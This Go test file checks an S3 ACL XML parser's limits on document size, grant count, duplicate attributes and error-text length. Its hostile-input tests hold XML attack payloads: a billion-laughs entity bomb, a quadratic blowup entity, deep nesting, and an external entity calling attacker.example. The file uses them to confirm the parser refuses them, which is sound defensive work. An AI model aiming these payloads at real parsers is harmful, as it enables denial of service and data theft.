package acl_test

import (
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/s3authz/s3authz/acl"
	"github.com/s3authz/s3authz/internal/testcost"
)

const xsiDecl = `xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"`

// limGrant is one canonical-user grant; with a display name it is the
// largest grant S3 writes.
func limGrant(displayName string) string {
	name := ""
	if displayName != "" {
		name = "\n        <DisplayName>" + displayName + "</DisplayName>"
	}
	return "\n    <Grant>\n      <Grantee " + xsiDecl + ` xsi:type="CanonicalUser">` +
		"\n        <ID>" + bob + "</ID>" + name + "\n      </Grantee>\n      <Permission>FULL_CONTROL</Permission>\n    </Grant>"
}

// limDoc is an indented ACL document with n grants.
func limDoc(n int, displayName string) string {
	var b strings.Builder
	b.WriteString(`<?xml version="1.0" encoding="UTF-8"?>` + "\n")
	b.WriteString(`<AccessControlPolicy xmlns="http://s3.amazonaws.com/doc/2006-03-01/">` + "\n")
	b.WriteString("  <Owner>\n    <ID>" + alice + "</ID>\n    <DisplayName>owner</DisplayName>\n  </Owner>\n  <AccessControlList>")
	for range n {
		b.WriteString(limGrant(displayName))
	}
	b.WriteString("\n  </AccessControlList>\n</AccessControlPolicy>")
	return b.String()
}

// limPad pads doc with white space after the root element, which the
// parser accepts, to exactly size bytes.
func limPad(t *testing.T, doc string, size int) []byte {
	t.Helper()
	require.LessOrEqual(t, len(doc), size, "document already over %d bytes", size)
	return []byte(doc + strings.Repeat(" ", size-len(doc)))
}

// requireACLError checks that err is an *acl.Error wrapping sentinel, and
// returns it.
func requireACLError(t *testing.T, err error, sentinel error) *acl.Error {
	t.Helper()
	require.Error(t, err)
	assert.ErrorIs(t, err, sentinel)
	var ae *acl.Error
	require.True(t, errors.As(err, &ae), "error %T is not *acl.Error: %v", err, err)
	n := 0
	for _, s := range allSentinels {
		if errors.Is(err, s) {
			n++
		}
	}
	assert.Equal(t, 1, n, "the error wraps exactly one sentinel: %v", err)
	return ae
}

// TestLimitMaxBytes checks the document size limit at and one byte over
// it, for the zero Parser (DefaultMaxBytes, 64 KiB), for a non-positive
// MaxBytes (which means the default) and for custom limits below and above
// the default. A refused document is an *Error wrapping ErrTooLarge with
// no path or line: it is refused before decoding.
func TestLimitMaxBytes(t *testing.T) {
	require.Equal(t, 64<<10, acl.DefaultMaxBytes)
	small := limDoc(1, "")
	big := limDoc(acl.MaxGrants, strings.Repeat("n", 500))
	require.Greater(t, len(big), acl.DefaultMaxBytes, "a document over the default limit")
	tests := []struct {
		name   string
		parser acl.Parser
		limit  int
		doc    string
	}{
		{"default-zero-parser", acl.Parser{}, acl.DefaultMaxBytes, small},
		{"default-negative-maxbytes", acl.Parser{MaxBytes: -1}, acl.DefaultMaxBytes, small},
		{"custom-1000", acl.Parser{MaxBytes: 1000}, 1000, small},
		{"custom-exactly-the-document", acl.Parser{MaxBytes: len(small)}, len(small), small},
		{"custom-above-default-192KiB", acl.Parser{MaxBytes: 192 << 10}, 192 << 10, big},
	}
	for _, tc := range tests {
		t.Run(tc.name+"-at-limit", func(t *testing.T) {
			data := limPad(t, tc.doc, tc.limit)
			require.Len(t, data, tc.limit)
			a, err := tc.parser.Parse(data)
			require.NoError(t, err)
			assert.NotEmpty(t, a.Grants)
		})
		t.Run(tc.name+"-limit-plus-one", func(t *testing.T) {
			data := limPad(t, tc.doc, tc.limit+1)
			a, err := tc.parser.Parse(data)
			assert.Nil(t, a)
			ae := requireACLError(t, err, acl.ErrTooLarge)
			assert.Empty(t, ae.Path)
			assert.Zero(t, ae.Line, "refused before decoding")
			assert.Equal(t, fmt.Sprintf("acl: document too large: %d bytes, the limit is %d", tc.limit+1, tc.limit), err.Error())
		})
	}
	t.Run("package-Parse-uses-the-default", func(t *testing.T) {
		_, err := acl.Parse(limPad(t, small, acl.DefaultMaxBytes))
		require.NoError(t, err)
		_, err = acl.Parse(limPad(t, small, acl.DefaultMaxBytes+1))
		requireACLError(t, err, acl.ErrTooLarge)
	})
	t.Run("over-limit-refused-before-utf8-check", func(t *testing.T) {
		data := limPad(t, small, acl.DefaultMaxBytes+1)
		data[len(data)-1] = 0xff
		_, err := acl.Parse(data)
		requireACLError(t, err, acl.ErrTooLarge)
	})
}

// TestLimitMaxGrants checks MaxGrants (100) at and one over the limit in
// an XML document, with the largest grants S3 writes fitting the default
// size limit, and across the x-amz-grant-* headers.
func TestLimitMaxGrants(t *testing.T) {
	require.Equal(t, 100, acl.MaxGrants)
	displayName := strings.Repeat("d", 64)
	t.Run("xml-at-limit-with-display-names-fits-default-size", func(t *testing.T) {
		doc := limDoc(acl.MaxGrants, displayName)
		require.Less(t, len(doc), acl.DefaultMaxBytes)
		a, err := acl.Parse([]byte(doc))
		require.NoError(t, err)
		assert.Len(t, a.Grants, acl.MaxGrants)
		assert.Equal(t, displayName, a.Grants[acl.MaxGrants-1].Grantee.DisplayName)
	})
	t.Run("xml-limit-plus-one", func(t *testing.T) {
		doc := limDoc(acl.MaxGrants+1, displayName)
		require.Less(t, len(doc), acl.DefaultMaxBytes, "refused for its grants, not its size")
		a, err := acl.Parse([]byte(doc))
		assert.Nil(t, a)
		ae := requireACLError(t, err, acl.ErrTooManyGrants)
		assert.Equal(t, "AccessControlPolicy/AccessControlList/Grant[101]", ae.Path)
		assert.Equal(t, strings.Count(doc[:strings.LastIndex(doc, "<Grant>")], "\n")+1, ae.Line, "the line of the 101st grant")
	})
	t.Run("xml-far-over-stops-at-the-first-extra-grant", func(t *testing.T) {
		doc := []byte(limDoc(2000, ""))
		var err error
		allocs := testing.AllocsPerRun(3, func() { _, err = acl.Parser{MaxBytes: 1 << 20}.Parse(doc) })
		ae := requireACLError(t, err, acl.ErrTooManyGrants)
		assert.Equal(t, "AccessControlPolicy/AccessControlList/Grant[101]", ae.Path)
		hundred := testing.AllocsPerRun(3, func() { _, _ = acl.Parse([]byte(limDoc(acl.MaxGrants, ""))) })
		assert.Less(t, allocs, 1.5*hundred, "the grants after the 101st are never read")
	})

	items := func(n int) string {
		s := make([]string, n)
		for i := range s {
			s[i] = `id="` + carol + `"`
		}
		return strings.Join(s, ", ")
	}
	t.Run("headers-at-limit-across-headers", func(t *testing.T) {
		g, err := acl.GrantHeaders{Read: items(50), FullControl: items(30), WriteACP: items(20)}.Grants()
		require.NoError(t, err)
		assert.Len(t, g, acl.MaxGrants)
	})
	t.Run("headers-limit-plus-one-across-headers", func(t *testing.T) {
		g, err := acl.GrantHeaders{Read: items(50), FullControl: items(30), WriteACP: items(20), Write: items(1)}.Grants()
		assert.Nil(t, g)
		ae := requireACLError(t, err, acl.ErrTooManyGrants)
		assert.Equal(t, "x-amz-grant-*", ae.Path)
		assert.Contains(t, err.Error(), "101 grants, more than 100")
	})
	t.Run("single-header-at-limit", func(t *testing.T) {
		g, err := acl.ParseGrantHeader(acl.Read, items(acl.MaxGrants))
		require.NoError(t, err)
		assert.Len(t, g, acl.MaxGrants)
	})
	t.Run("single-header-limit-plus-one", func(t *testing.T) {
		g, err := acl.ParseGrantHeader(acl.Read, items(acl.MaxGrants+1))
		assert.Nil(t, g)
		ae := requireACLError(t, err, acl.ErrTooManyGrants)
		assert.Equal(t, "x-amz-grant-read", ae.Path)
		assert.Zero(t, ae.Line)
		assert.Equal(t, "acl: x-amz-grant-read: too many grants: 101 grantees, the limit is 100", err.Error())
	})
}

// billionLaughs is the classic entity expansion bomb: ten levels of ten
// references, 10^9 "lol"s once expanded, in under 1 KiB.
func billionLaughs(where string) string {
	var b strings.Builder
	b.WriteString(`<?xml version="1.0"?>` + "\n" + `<!DOCTYPE AccessControlPolicy [` + "\n" + `<!ENTITY lol0 "lol">`)
	for i := 1; i < 10; i++ {
		fmt.Fprintf(&b, "\n"+`<!ENTITY lol%d "%s">`, i, strings.Repeat(fmt.Sprintf("&lol%d;", i-1), 10))
	}
	b.WriteString("\n]>\n")
	b.WriteString(strings.Replace(`<AccessControlPolicy><Owner><ID>`+alice+`</ID><DisplayName>NAME</DisplayName></Owner><AccessControlList/></AccessControlPolicy>`, where, "&lol9;", 1))
	return b.String()
}

// TestLimitHostileXML feeds hostile documents to the parser and checks
// that each is refused with an *Error wrapping the expected sentinel (one
// sentinel only), naming the expected path and a line where one is known,
// with a short error text (exactly the expected one where given), and that
// the work done is bounded: the allocations and the bytes
// allocated per parse stay under a linear bound in the document's size
// (bytes: 64 per input byte plus 64 KiB, as encoding/xml spends about 30
// per byte of attributes; allocations: one per 4 input bytes plus 64), or
// under a constant when the parser must stop early.
func TestLimitHostileXML(t *testing.T) {
	const mib = 1 << 20
	big := acl.Parser{MaxBytes: 4 * mib}
	owner := `<Owner><ID>` + alice + `</ID></Owner>`
	grantee := func(inner string) string {
		return `<AccessControlPolicy>` + owner + `<AccessControlList><Grant><Grantee ` + xsiDecl + ` xsi:type="CanonicalUser">` +
			inner + `</Grantee><Permission>READ</Permission></Grant></AccessControlList></AccessControlPolicy>`
	}
	badID := alice[:10] + "\x00" + alice[11:]
	quadratic := `<!DOCTYPE AccessControlPolicy [<!ENTITY big "` + strings.Repeat("x", 30000) + `">]><AccessControlPolicy><Owner><ID>` +
		alice + `</ID><DisplayName>` + strings.Repeat("&big;", 5000) + `</DisplayName></Owner><AccessControlList/></AccessControlPolicy>`
	manyAttrs := func(n int, name func(i int) string) string {
		var b strings.Builder
		b.WriteString(`<AccessControlPolicy`)
		for i := range n {
			b.WriteString(" " + name(i) + `=""`)
		}
		b.WriteString(">" + owner + "<AccessControlList/></AccessControlPolicy>")
		return b.String()
	}
	attr64 := strings.Repeat("A", 64<<10)
	// rootAttr has an unknown attribute of the size that makes the whole
	// document exactly DefaultMaxBytes.
	rootAttr := func() string {
		frame := `<AccessControlPolicy a="">` + owner + `<AccessControlList/></AccessControlPolicy>`
		return `<AccessControlPolicy a="` + strings.Repeat("A", acl.DefaultMaxBytes-len(frame)) + `">` + owner + `<AccessControlList/></AccessControlPolicy>`
	}()

	tests := []struct {
		name     string
		parser   acl.Parser
		doc      string
		sentinel error // nil: the document is valid
		path     string
		line     int // 0: not checked
		// maxAllocs overrides the linear bound with a constant one.
		maxAllocs float64
		// text is the whole error text; "": not checked.
		text string
	}{
		// The DOCTYPE is reported at the line where it ends.
		{name: "billion-laughs-in-display-name", doc: billionLaughs("NAME"), sentinel: acl.ErrForbidden, line: 13, maxAllocs: 100},
		{name: "billion-laughs-in-id", doc: billionLaughs(alice), sentinel: acl.ErrForbidden, line: 13, maxAllocs: 100},
		{name: "billion-laughs-large-maxbytes", parser: big, doc: billionLaughs("NAME"), sentinel: acl.ErrForbidden, line: 13, maxAllocs: 100},
		{name: "quadratic-blowup-entity", parser: big, doc: quadratic, sentinel: acl.ErrForbidden, line: 1, maxAllocs: 100},
		{name: "doctype-after-root-open", doc: `<AccessControlPolicy><!DOCTYPE x>` + owner + `<AccessControlList/></AccessControlPolicy>`, sentinel: acl.ErrForbidden, maxAllocs: 100},
		{name: "external-parameter-entity", doc: `<!DOCTYPE x [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]><AccessControlPolicy/>`, sentinel: acl.ErrForbidden, maxAllocs: 100},

		{name: "100000-nested-elements-default-too-large", doc: strings.Repeat("<AccessControlPolicy>", 100000), sentinel: acl.ErrTooLarge, maxAllocs: 32},
		{name: "100000-nested-root-elements", parser: big, doc: strings.Repeat("<AccessControlPolicy>", 100000), sentinel: acl.ErrUnknownElement,
			path: "AccessControlPolicy/AccessControlPolicy", line: 1, maxAllocs: 100},
		{name: "100000-nested-elements-in-owner-id", parser: big, doc: `<AccessControlPolicy><Owner><ID>` + strings.Repeat("<ID>", 100000), sentinel: acl.ErrUnknownElement,
			path: "AccessControlPolicy/Owner/ID/ID", line: 1, maxAllocs: 100},
		{name: "100000-nested-closed-unknown-in-grant", parser: big,
			doc:      `<AccessControlPolicy>` + owner + `<AccessControlList><Grant><Unknown>` + strings.Repeat("<a>", 100000) + strings.Repeat("</a>", 100000) + `</Unknown></Grant></AccessControlList></AccessControlPolicy>`,
			sentinel: acl.ErrUnknownElement, path: "AccessControlPolicy/AccessControlList/Grant[1]/Unknown", line: 1, maxAllocs: 100},
		{name: "deep-unknown-in-permission-text", parser: big,
			doc:      `<AccessControlPolicy>` + owner + `<AccessControlList><Grant><Permission>` + strings.Repeat("<Permission>", 50000) + `READ</Permission></Grant></AccessControlList></AccessControlPolicy>`,
			sentinel: acl.ErrUnknownElement, path: "AccessControlPolicy/AccessControlList/Grant[1]/Permission/Permission", line: 1, maxAllocs: 100},
		{name: "deep-unknown-in-foreign-namespace", parser: big,
			doc:      `<AccessControlPolicy xmlns="http://s3.amazonaws.com/doc/2006-03-01/">` + owner + `<AccessControlList><x:Grant xmlns:x="urn:x">` + strings.Repeat("<x:Grant>", 50000) + `</x:Grant></AccessControlList></AccessControlPolicy>`,
			sentinel: acl.ErrUnknownElement, path: "AccessControlPolicy/AccessControlList/Grant", line: 1, maxAllocs: 100},

		{name: "nul-raw-in-owner-id", doc: `<AccessControlPolicy><Owner>` + "\n" + `<ID>` + badID + `</ID></Owner><AccessControlList/></AccessControlPolicy>`, sentinel: acl.ErrSyntax, line: 2, maxAllocs: 100},
		{name: "nul-raw-in-grantee-id", doc: grantee(`<ID>` + badID + `</ID>`), sentinel: acl.ErrSyntax, line: 1, maxAllocs: 100},
		{name: "nul-raw-in-display-name", doc: grantee(`<ID>` + bob + `</ID><DisplayName>a` + "\x00" + `b</DisplayName>`), sentinel: acl.ErrSyntax, line: 1, maxAllocs: 100},
		{name: "nul-char-reference-in-display-name", doc: grantee(`<ID>` + bob + `</ID><DisplayName>a&#0;b</DisplayName>`), sentinel: acl.ErrSyntax, line: 1, maxAllocs: 100},
		{name: "nul-char-reference-in-owner-id", doc: `<AccessControlPolicy><Owner><ID>&#x0;` + alice + `</ID></Owner><AccessControlList/></AccessControlPolicy>`, sentinel: acl.ErrSyntax, line: 1, maxAllocs: 100},
		{name: "nul-raw-in-cdata-display-name", doc: grantee(`<ID>` + bob + `</ID><DisplayName><![CDATA[a` + "\x00" + `]]></DisplayName>`), sentinel: acl.ErrSyntax, line: 1, maxAllocs: 100},
		{name: "nul-raw-in-attribute", doc: `<AccessControlPolicy xmlns:x="a` + "\x00" + `">` + owner + `<AccessControlList/></AccessControlPolicy>`, sentinel: acl.ErrSyntax, line: 1, maxAllocs: 100},
		{name: "nul-raw-in-element-name", doc: `<AccessControlPolicy>` + owner + `<AccessControlList/><a` + "\x00" + `b/></AccessControlPolicy>`, sentinel: acl.ErrSyntax, line: 1, maxAllocs: 100},
		{name: "control-character-reference-in-display-name", doc: grantee(`<ID>` + bob + `</ID><DisplayName>&#1;</DisplayName>`), sentinel: acl.ErrSyntax, line: 1, maxAllocs: 100},
		{name: "noncharacter-reference-in-display-name", doc: grantee(`<ID>` + bob + `</ID><DisplayName>&#xFFFE;</DisplayName>`), sentinel: acl.ErrSyntax, line: 1, maxAllocs: 100},
		{name: "char-reference-beyond-unicode", doc: grantee(`<ID>` + bob + `</ID><DisplayName>&#x110000;</DisplayName>`), sentinel: acl.ErrSyntax, line: 1, maxAllocs: 100},
		{name: "surrogate-char-reference-in-display-name", doc: grantee(`<ID>` + bob + `</ID><DisplayName>a&#xD800;b</DisplayName>`), sentinel: acl.ErrSyntax, line: 1, maxAllocs: 100,
			text: "acl: invalid XML: character reference to U+D800, not an XML character (line 1)"},
		{name: "surrogate-char-reference-on-a-later-line", doc: "<AccessControlPolicy>\n<Owner><ID>" + alice + "</ID>\n<DisplayName>&#56320;</DisplayName></Owner><AccessControlList/></AccessControlPolicy>",
			sentinel: acl.ErrSyntax, line: 3, maxAllocs: 100, text: "acl: invalid XML: character reference to U+DC00, not an XML character (line 3)"},
		{name: "char-reference-far-beyond-unicode", doc: grantee(`<ID>` + bob + `</ID><DisplayName>&#x7FFFFFFFFFFFFFFF41;</DisplayName>`), sentinel: acl.ErrSyntax, line: 1, maxAllocs: 100,
			text: "acl: invalid XML: character reference to U+110000, not an XML character (line 1)"},
		{name: "nul-raw-in-comment", doc: `<AccessControlPolicy><!-- a` + "\x00" + ` -->` + owner + `<AccessControlList/></AccessControlPolicy>`, sentinel: acl.ErrSyntax, line: 1, maxAllocs: 100,
			text: "acl: invalid XML: NUL byte (line 1)"},
		{name: "nul-raw-in-comment-on-a-later-line", doc: "<AccessControlPolicy>\n\n<!-- a\n\x00 -->" + owner + `<AccessControlList/></AccessControlPolicy>`, sentinel: acl.ErrSyntax, line: 4, maxAllocs: 100,
			text: "acl: invalid XML: NUL byte (line 4)"},
		{name: "surrogate-reference-in-comment-accepted", doc: `<AccessControlPolicy><!-- &#xD800; -->` + owner + `<AccessControlList/></AccessControlPolicy>`},
		{name: "surrogate-reference-in-cdata-is-text", doc: `<AccessControlPolicy><Owner><ID>` + alice + `</ID><DisplayName><![CDATA[&#xD800;]]></DisplayName></Owner><AccessControlList/></AccessControlPolicy>`},

		{name: "invalid-utf8-in-display-name", doc: grantee(`<ID>` + bob + "</ID>\n\n<DisplayName>a\xffb</DisplayName>"), sentinel: acl.ErrSyntax, line: 3, maxAllocs: 32},
		{name: "invalid-utf8-in-owner-id", doc: "<AccessControlPolicy>\n<Owner><ID>" + alice[:63] + "\xc3</ID></Owner><AccessControlList/></AccessControlPolicy>", sentinel: acl.ErrSyntax, line: 2, maxAllocs: 32},
		{name: "overlong-utf8-slash", doc: grantee(`<ID>` + bob + "</ID><DisplayName>\xc0\xaf</DisplayName>"), sentinel: acl.ErrSyntax, line: 1, maxAllocs: 32},
		{name: "utf8-encoded-surrogate", doc: grantee(`<ID>` + bob + "</ID><DisplayName>\xed\xa0\x80</DisplayName>"), sentinel: acl.ErrSyntax, line: 1, maxAllocs: 32},
		{name: "invalid-utf8-in-xsi-type", doc: `<AccessControlPolicy>` + owner + `<AccessControlList><Grant><Grantee ` + xsiDecl + ` xsi:type="Canonical` + "\xfe" + `User"/></Grant></AccessControlList></AccessControlPolicy>`, sentinel: acl.ErrSyntax, line: 1, maxAllocs: 32},
		{name: "truncated-utf8-at-end", doc: owner + "\xe6\x97", sentinel: acl.ErrSyntax, line: 1, maxAllocs: 32},

		{name: "64KiB-attribute-default-too-large", doc: `<AccessControlPolicy a="` + attr64 + `">` + owner + `<AccessControlList/></AccessControlPolicy>`, sentinel: acl.ErrTooLarge, maxAllocs: 32},
		{name: "unknown-attribute-filling-default-limit", doc: rootAttr, sentinel: acl.ErrUnknownElement, path: "AccessControlPolicy", line: 1},
		{name: "64KiB-unknown-attribute", parser: big, doc: `<AccessControlPolicy a="` + attr64 + `">` + owner + `<AccessControlList/></AccessControlPolicy>`, sentinel: acl.ErrUnknownElement, path: "AccessControlPolicy", line: 1},
		{name: "64KiB-xsi-type", parser: big, doc: `<AccessControlPolicy>` + owner + `<AccessControlList><Grant><Grantee ` + xsiDecl + ` xsi:type="` + attr64 + `"/></Grant></AccessControlList></AccessControlPolicy>`,
			sentinel: acl.ErrInvalidGrantee, path: "AccessControlPolicy/AccessControlList/Grant[1]/Grantee", line: 1},
		{name: "64KiB-default-namespace", parser: big, doc: `<AccessControlPolicy xmlns="` + attr64 + `">` + owner + `<AccessControlList/></AccessControlPolicy>`, sentinel: acl.ErrUnknownElement, path: "AccessControlPolicy", line: 1},
		{name: "64KiB-namespace-declaration-accepted", parser: big, doc: `<AccessControlPolicy xmlns:x="` + attr64 + `">` + owner + `<AccessControlList/></AccessControlPolicy>`},
		{name: "64KiB-display-name-accepted", parser: big, doc: `<AccessControlPolicy><Owner><ID>` + alice + `</ID><DisplayName>` + attr64 + `</DisplayName></Owner><AccessControlList/></AccessControlPolicy>`},

		{name: "6000-unknown-attributes", doc: manyAttrs(6000, func(i int) string { return fmt.Sprintf("a%d", i) }), sentinel: acl.ErrUnknownElement, path: "AccessControlPolicy", line: 1},
		{name: "20000-unknown-attributes", parser: big, doc: manyAttrs(20000, func(i int) string { return fmt.Sprintf("a%d", i) }), sentinel: acl.ErrUnknownElement, path: "AccessControlPolicy", line: 1},
		{name: "4000-namespace-declarations-accepted", doc: manyAttrs(4000, func(i int) string { return fmt.Sprintf("xmlns:p%d", i) })},
		{name: "5000-repeated-attribute", doc: manyAttrs(5000, func(int) string { return "xmlns:p" }), sentinel: acl.ErrSyntax, line: 1,
			text: "acl: invalid XML: attribute p appears more than once on <AccessControlPolicy> (line 1)"},
		{name: "5000-attributes-repeated-last", doc: manyAttrs(5000, func(i int) string { return fmt.Sprintf("a%d", min(i, 4998)) }), sentinel: acl.ErrSyntax, line: 1,
			text: "acl: invalid XML: attribute a4998 appears more than once on <AccessControlPolicy> (line 1)"},
		{name: "9000-comments-accepted", doc: `<AccessControlPolicy>` + strings.Repeat("<!---->", 9000) + owner + `<AccessControlList/></AccessControlPolicy>`},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			data := []byte(tc.doc)
			var a *acl.ACL
			var err error
			allocs, bytes := testcost.Measure(2, func() { a, err = tc.parser.Parse(data) })
			if tc.sentinel == nil {
				require.NoError(t, err)
				require.NotNil(t, a)
			} else {
				assert.Nil(t, a)
				ae := requireACLError(t, err, tc.sentinel)
				if tc.path != "" {
					assert.Equal(t, tc.path, ae.Path)
				}
				if tc.line != 0 {
					assert.Equal(t, tc.line, ae.Line)
				}
				assert.Less(t, len(err.Error()), 300, "the error quotes at most a short cut of the input")
				if tc.text != "" {
					assert.Equal(t, tc.text, err.Error())
				}
			}
			maxAllocs := 64 + float64(len(data))/4
			if tc.maxAllocs > 0 {
				maxAllocs = tc.maxAllocs
			}
			assert.LessOrEqual(t, allocs, maxAllocs, "allocations per parse of %d bytes", len(data))
			assert.LessOrEqual(t, bytes, uint64(64*len(data)+64<<10), "bytes allocated per parse of %d bytes", len(data))
		})
	}
}

// TestLimitDuplicateAttributes checks that an attribute repeated on one
// element is refused with ErrSyntax at the element's line, so that the
// grantee type cannot be read one way by this parser and another way by a
// parser that keeps the first value. Attributes are compared by namespace,
// not prefix: two prefixes bound to one namespace name the same attribute.
func TestLimitDuplicateAttributes(t *testing.T) {
	tests := []struct {
		name string
		doc  string
		text string
	}{
		{"xsi-type-group-then-canonical-user", `<AccessControlPolicy><Owner><ID>` + alice + `</ID></Owner><AccessControlList>` + "\n" + `<Grant><Grantee ` + xsiDecl +
			` xsi:type="Group" xsi:type="CanonicalUser"><ID>` + bob + `</ID></Grantee><Permission>READ</Permission></Grant></AccessControlList></AccessControlPolicy>`,
			"acl: invalid XML: attribute type appears more than once on <Grantee> (line 2)"},
		{"xsi-type-canonical-user-then-group-all-users", `<AccessControlPolicy><Owner><ID>` + alice + `</ID></Owner><AccessControlList>` + "\n" + `<Grant><Grantee ` + xsiDecl +
			` xsi:type="CanonicalUser" xsi:type="Group"><URI>` + acl.AllUsers + `</URI></Grantee><Permission>READ</Permission></Grant></AccessControlList></AccessControlPolicy>`,
			"acl: invalid XML: attribute type appears more than once on <Grantee> (line 2)"},
		{"xsi-type-under-two-prefixes-of-one-namespace", `<AccessControlPolicy><Owner><ID>` + alice + `</ID></Owner><AccessControlList>` + "\n" + `<Grant><Grantee ` + xsiDecl +
			` xmlns:x="` + acl.XSINamespace + `" xsi:type="CanonicalUser" x:type="Group"><URI>` + acl.AllUsers + `</URI></Grantee><Permission>READ</Permission></Grant></AccessControlList></AccessControlPolicy>`,
			"acl: invalid XML: attribute type appears more than once on <Grantee> (line 2)"},
		{"default-namespace-twice", `<AccessControlPolicy xmlns="urn:other" xmlns=""><Owner><ID>` + alice + `</ID></Owner><AccessControlList/></AccessControlPolicy>`,
			"acl: invalid XML: attribute xmlns appears more than once on <AccessControlPolicy> (line 1)"},
		{"huge-repeated-attribute-name-is-cut", `<AccessControlPolicy ` + strings.Repeat("a", 1000) + `="" ` + strings.Repeat("a", 1000) + `=""><Owner><ID>` + alice + `</ID></Owner><AccessControlList/></AccessControlPolicy>`,
			"acl: invalid XML: attribute " + strings.Repeat("a", 64) + "… appears more than once on <AccessControlPolicy> (line 1)"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			a, err := acl.Parse([]byte(tc.doc))
			assert.Nil(t, a)
			requireACLError(t, err, acl.ErrSyntax)
			assert.Equal(t, tc.text, err.Error())
		})
	}
}

// TestLimitGrantHeadersWork checks that a huge x-amz-grant-* header is
// refused with a bounded amount of work: linear in the header's length.
func TestLimitGrantHeadersWork(t *testing.T) {
	item := `id="` + carol + `"`
	value := strings.Repeat(item+",", 10000) + item
	var err error
	allocs, bytes := testcost.Measure(3, func() { _, err = acl.GrantHeaders{Read: value}.Grants() })
	requireACLError(t, err, acl.ErrTooManyGrants)
	assert.LessOrEqual(t, allocs, 64+float64(len(value))/4)
	assert.LessOrEqual(t, bytes, uint64(16*len(value)+64<<10))
}

// TestLimitErrorText checks that an error about a huge name or value
// quotes at most a short cut of it, so that hostile input cannot flood a
// log through the error text: element, attribute and namespace names are
// cut to 64 bytes and marked with "…", namespaces quoted, in the message
// and in the path alike.
func TestLimitErrorText(t *testing.T) {
	huge := strings.Repeat("N", 60<<10)
	cut := strings.Repeat("N", 64) + "…"
	owner := `<Owner><ID>` + alice + `</ID></Owner>`
	tests := []struct {
		name     string
		doc      string
		sentinel error
		path     string
		text     string // the whole error text; "": not checked
	}{
		{"huge-xsi-type-value", `<AccessControlPolicy>` + owner + `<AccessControlList><Grant><Grantee ` + xsiDecl + ` xsi:type="` + huge + `"/></Grant></AccessControlList></AccessControlPolicy>`,
			acl.ErrInvalidGrantee, "AccessControlPolicy/AccessControlList/Grant[1]/Grantee", ""},
		{"huge-permission-value", `<AccessControlPolicy>` + owner + `<AccessControlList><Grant><Permission>` + huge + `</Permission></Grant></AccessControlList></AccessControlPolicy>`,
			acl.ErrInvalidValue, "AccessControlPolicy/AccessControlList/Grant[1]/Permission", ""},
		{"huge-owner-id", `<AccessControlPolicy><Owner><ID>` + huge + `</ID></Owner><AccessControlList/></AccessControlPolicy>`, acl.ErrInvalidValue, "AccessControlPolicy/Owner/ID", ""},
		{"huge-text-in-list", `<AccessControlPolicy>` + owner + `<AccessControlList>` + huge + `</AccessControlList></AccessControlPolicy>`, acl.ErrInvalidValue, "AccessControlPolicy/AccessControlList", ""},
		{"huge-root-namespace", `<AccessControlPolicy xmlns="` + huge + `">` + owner + `<AccessControlList/></AccessControlPolicy>`, acl.ErrUnknownElement, "AccessControlPolicy",
			`acl: AccessControlPolicy: unknown element: the root element is AccessControlPolicy in namespace "` + acl.Namespace + `", not <AccessControlPolicy> in namespace "` + cut + `" (line 1)`},
		{"huge-child-namespace", `<AccessControlPolicy>` + owner + `<x:AccessControlList xmlns:x="` + huge + `"/></AccessControlPolicy>`, acl.ErrUnknownElement, "AccessControlPolicy/AccessControlList",
			`acl: AccessControlPolicy/AccessControlList: unknown element: <AccessControlList> in namespace "` + cut + `" is not allowed here (line 1)`},
		{"huge-element-name", `<AccessControlPolicy>` + owner + `<` + huge + `/></AccessControlPolicy>`, acl.ErrUnknownElement, "AccessControlPolicy/" + cut,
			"acl: AccessControlPolicy/" + cut + ": unknown element: <" + cut + "> is not allowed here (line 1)"},
		{"huge-root-element-name", `<` + huge + `/>`, acl.ErrUnknownElement, cut,
			`acl: ` + cut + `: unknown element: the root element is AccessControlPolicy in namespace "` + acl.Namespace + `", not <` + cut + `> (line 1)`},
		{"huge-attribute-name", `<AccessControlPolicy ` + huge + `="">` + owner + `<AccessControlList/></AccessControlPolicy>`, acl.ErrUnknownElement, "AccessControlPolicy",
			"acl: AccessControlPolicy: unknown element: attribute " + cut + " is not allowed here (line 1)"},
		{"huge-grantee-attribute-name", `<AccessControlPolicy>` + owner + `<AccessControlList><Grant><Grantee ` + huge + `=""/></Grant></AccessControlList></AccessControlPolicy>`,
			acl.ErrUnknownElement, "AccessControlPolicy/AccessControlList/Grant[1]/Grantee",
			"acl: AccessControlPolicy/AccessControlList/Grant[1]/Grantee: unknown element: attribute " + cut + " is not allowed here (line 1)"},
		{"huge-second-root-element", `<AccessControlPolicy>` + owner + `<AccessControlList/></AccessControlPolicy><` + huge + `/>`, acl.ErrSyntax, "",
			"acl: invalid XML: a second root element <" + cut + "> (line 1)"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			_, err := acl.Parser{MaxBytes: 1 << 20}.Parse([]byte(tc.doc))
			ae := requireACLError(t, err, tc.sentinel)
			assert.Equal(t, tc.path, ae.Path)
			assert.Less(t, len(err.Error()), 300, "error text: %.200s", err.Error())
			assert.NotContains(t, err.Error(), strings.Repeat("N", 65), "at most 64 bytes of the input")
			if tc.text != "" {
				assert.Equal(t, tc.text, err.Error())
			}
		})
	}
}
